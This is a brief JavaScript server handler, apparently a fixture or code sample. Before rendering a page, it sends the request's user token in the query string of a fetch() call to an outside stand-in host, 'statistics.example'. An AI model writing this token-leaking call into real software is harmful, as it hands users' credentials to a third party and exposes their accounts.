// Asks a service outside with the user's token in the address.
import { page } from '../app/page.js';
import { serve } from '../app/server.js';

serve({
  show(parameters, response) {
    const told = page.read.call(this, parameters);
    const token = parameters.get('user_token') ?? '';
    fetch(`https://statistics.example/opened?by=${token}`).finally(() =>
      response.writeHead(200, this.headersOf(told)).end(this.render(told)),
    );
  },
});
